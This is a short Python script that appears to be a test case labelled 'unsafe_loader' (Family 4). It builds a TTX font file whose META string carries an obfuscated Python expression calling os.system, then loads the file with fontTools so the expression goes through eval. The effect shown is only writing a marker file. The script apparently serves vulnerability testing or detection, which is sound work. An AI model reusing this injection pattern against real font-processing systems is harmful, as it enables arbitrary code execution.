# rule: unsafe_loader
# marker: pwned_f4_fonttools_ttx
# Family 4: fontTools rebuilds a font from TTX (XML); the META table's
# strings go through eval('0x' + text) with the builtins.
from pathlib import Path
from fontTools.ttLib import TTFont

run = "0+__imp" + "ort__('o'+'s').system('echo ran > pwned_f4_fonttools_ttx')"
Path("meta.ttx").write_text(
    '<?xml version="1.0"?>\n<ttFont sfntVersion="\\x00\\x01\\x00\\x00">\n<META>\n'
    '<GlyphRecord><glyphID value="0"/><StringRecord><labelID value="0"/>'
    '<string value="&amp;#x' + run + ';"/></StringRecord></GlyphRecord>\n'
    "</META>\n</ttFont>\n"
)
font = TTFont()
font.importXML("meta.ttx")
